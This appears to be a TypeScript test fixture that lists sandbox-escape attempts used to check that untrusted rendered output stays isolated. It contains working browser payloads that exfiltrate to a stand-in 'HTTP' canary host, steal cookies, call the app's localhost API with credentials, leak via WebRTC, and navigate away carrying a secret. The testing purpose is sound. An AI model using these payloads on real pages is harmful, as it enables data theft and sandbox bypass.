/**
 * What a hostile output tries when it does run: each is a script that ends by setting `done`.
 * `HTTP` and `UDP` stand for the canaries.
 */
export const ATTEMPTS: Readonly<Record<string, string>> = {
  "reads the app": `
    for (const read of [() => parent.document.cookie, () => top.document.body, () => parent.pwned = 1, () => document.cookie, () => localStorage.length, () => indexedDB.open("x")]) {
      try { if (read()) parent.postMessage({ kind: "failed", message: "it could read the app" }, "*"); } catch {}
    }
    done();`,
  "asks the app's server": `
    Promise.allSettled([fetch("/api/v1/runs"), fetch("http://localhost:APP/api/v1/runs", { credentials: "include" }), fetch("http://127.0.0.1:APP/api/v1/files?path=/")])
      .then((all) => { if (all.some((it) => it.status === "fulfilled")) parent.postMessage({ kind: "failed", message: "it could ask the server" }, "*"); done(); });`,
  "fetches, beacons and sockets": `
    Promise.allSettled([
      fetch("http://HTTP/fetch"), fetch("http://HTTP/no-cors", { mode: "no-cors" }), import("http://HTTP/module.js"),
      new Promise((end) => { const it = new WebSocket("ws://HTTP/socket"); it.onerror = it.onopen = end; }),
      new Promise((end) => { const it = new EventSource("http://HTTP/events"); it.onerror = it.onopen = end; }),
      new Promise((end) => { const it = new XMLHttpRequest(); it.open("GET", "http://HTTP/xhr"); it.onloadend = end; it.send(); }),
      new Promise((end) => { navigator.sendBeacon("http://HTTP/beacon", "x"); end(); }),
    ]).then(done, done);`,
  "loads pictures, styles, fonts, sounds and scripts": `
    const elements = [["img", "src"], ["script", "src"], ["video", "src"], ["audio", "src"], ["track", "src"], ["embed", "src"], ["object", "data"], ["input", "src"]];
    const all = elements.map(([name, attribute]) => new Promise((end) => {
      const it = document.createElement(name);
      it.onerror = it.onload = end; it.type = name === "input" ? "image" : it.type; it[attribute] = "http://HTTP/" + name;
      document.body.append(it); setTimeout(end, 300);
    }));
    document.head.insertAdjacentHTML("beforeend", '<link rel="stylesheet" href="http://HTTP/a.css"><link rel="prefetch" href="http://HTTP/p"><link rel="preload" as="image" href="http://HTTP/q"><link rel="icon" href="http://HTTP/i"><link rel="manifest" href="http://HTTP/m"><style>@import "http://HTTP/b.css"; @font-face { font-family: f; src: url(http://HTTP/f.woff2) } body { background: url(http://HTTP/bg); font-family: f; cursor: url(http://HTTP/c), auto }</style>');
    Promise.all(all).then(done);`,
  "asks for names": `
    document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="http://HTTP"><link rel="preconnect" href="http://HTTP">');
    document.body.insertAdjacentHTML("beforeend", '<a href="http://HTTP/link">a link</a>');
    setTimeout(done, 300);`,
  "connects to browsers": `
    if (window.RTCPeerConnection) parent.postMessage({ kind: "failed", message: "it could connect" }, "*");
    const connect = (it) => new Promise((end) => {
      try {
        const c = new it.RTCPeerConnection({ iceServers: [{ urls: "stun:UDP" }] });
        c.onicegatheringstatechange = () => c.iceGatheringState === "complete" && end();
        c.createDataChannel(""); c.createOffer().then((offer) => c.setLocalDescription(offer)).catch(end);
      } catch { end(); }
      setTimeout(end, 1000);
    });
    connect(window).then(done);`,
  "connects to browsers from a document within": `
    const script = "<script>const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:UDP' }] }); c.createDataChannel(''); c.createOffer().then((o) => c.setLocalDescription(o))<\\/script>";
    const add = (name, attributes) => { const it = document.createElement(name); Object.assign(it, attributes); document.body.append(it); return it; };
    for (const act of [
      () => add("iframe", { srcdoc: script }),
      () => add("iframe", { src: URL.createObjectURL(new Blob([script], { type: "text/html" })) }),
      () => add("iframe", { src: "data:text/html," + encodeURIComponent(script) }),
      () => add("object", { data: "data:text/html," + encodeURIComponent(script) }),
      () => { const host = add("div", {}); host.attachShadow({ mode: "closed" }).innerHTML = '<iframe srcdoc="' + script.replaceAll('"', "&quot;") + '"></iframe>'; },
      () => add("div", {}).setHTMLUnsafe('<template shadowrootmode="closed"><iframe srcdoc="' + script.replaceAll('"', "&quot;") + '"></iframe></template>'),
      () => { document.open(); document.write(script); document.close(); },
      () => { document.documentElement.replaceWith(document.createElement("html")); document.documentElement.append(Object.assign(document.createElement("iframe"), { srcdoc: script })); },
      () => { const w = add("iframe", {}).contentWindow; const c = new w.RTCPeerConnection({ iceServers: [{ urls: "stun:UDP" }] }); c.createDataChannel(""); c.createOffer().then((o) => c.setLocalDescription(o)); },
    ]) { try { act(); } catch {} }
    setTimeout(done, 1000);`,
  "connects to browsers with functions of its own in place of the browser's": `
    const script = "<script>const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:UDP' }] }); c.createDataChannel(''); c.createOffer().then((o) => c.setLocalDescription(o))<\\/script>";
    const { defineProperty } = Object;
    const within = (breaks) => {
      try { breaks(); } catch {}
      document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: script }));
    };
    const nothing = () => null;
    within(() => { document.querySelectorAll = Document.prototype.querySelectorAll = () => []; });
    within(() => { document.querySelector = Document.prototype.querySelector = nothing; });
    within(() => { Element.prototype.remove = nothing; HTMLIFrameElement.prototype.remove = nothing; });
    within(() => { Node.prototype.removeChild = nothing; });
    within(() => { defineProperty(NodeList.prototype, "length", { get: () => 0 }); });
    within(() => { NodeList.prototype[Symbol.iterator] = Array.prototype[Symbol.iterator] = () => ({ next: () => ({ done: true }) }); });
    within(() => { MutationObserver.prototype.observe = MutationObserver.prototype.takeRecords = nothing; });
    within(() => { Reflect.apply = Function.prototype.apply = Function.prototype.call = Function.prototype.bind = nothing; });
    try { delete window.RTCPeerConnection; new RTCPeerConnection(); parent.postMessage({ kind: "failed", message: "it could connect" }, "*"); } catch {}
    setTimeout(done, 1000);`,
  "opens windows and takes the page away": `
    for (const act of [() => open("http://HTTP/open"), () => top.location = "http://HTTP/top", () => parent.location = "http://HTTP/parent", () => top.location.replace("javascript:alert(1)"),
      () => { const a = document.createElement("a"); a.href = "http://HTTP/blank"; a.target = "_top"; document.body.append(a); a.click(); },
      () => { const f = document.createElement("form"); f.action = "http://HTTP/form"; f.method = "post"; document.body.append(f); f.submit(); },
      () => { const a = document.createElement("a"); a.href = "data:text/html,x"; a.download = "x.html"; document.body.append(a); a.click(); },
      () => alert(1), () => print(), () => navigator.serviceWorker.register("/sw.js"), () => document.documentElement.requestFullscreen()]) { try { act(); } catch {} }
    setTimeout(done, 100);`,
  "starts workers": `
    const work = new Blob(["fetch('http://HTTP/worker').catch(() => 0).finally(() => postMessage(1)); try { importScripts('http://HTTP/import.js') } catch {}"], { type: "text/javascript" });
    try { const it = new Worker(URL.createObjectURL(work)); it.onmessage = it.onerror = done; } catch { done(); }
    setTimeout(done, 1000);`,
  "floods the app with messages": `
    for (let i = 0; i < 20000; i += 1) parent.postMessage({ kind: "height", height: i % 2 ? 1e9 : -1 }, "*");
    for (const it of [{ kind: "ready" }, { kind: "show", html: "<img src=x onerror=alert(1)>" }, null, "x", { kind: "height", height: { valueOf() { return 1 } }.valueOf() }]) parent.postMessage(it, "*");
    done();`,
};

/** What ends the document that it is in: it goes away by itself, with what it knows in the address. */
export const DEPARTURES: readonly string[] = [
  "location = 'http://HTTP/assign?secret'",
  "location.replace('http://HTTP/replace?secret')",
  "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=http://HTTP/refresh?secret\">')",
  "const a = document.createElement('a'); a.href = 'http://HTTP/self?secret'; document.body.append(a); a.click()",
  "history.pushState(null, '', '/x'); location.href = 'http://HTTP/href?secret'",
  "location = 'http://localhost:APP/runs?secret'",
  "location = 'http://127.0.0.1:APP/api/v1/openapi.json'",
];
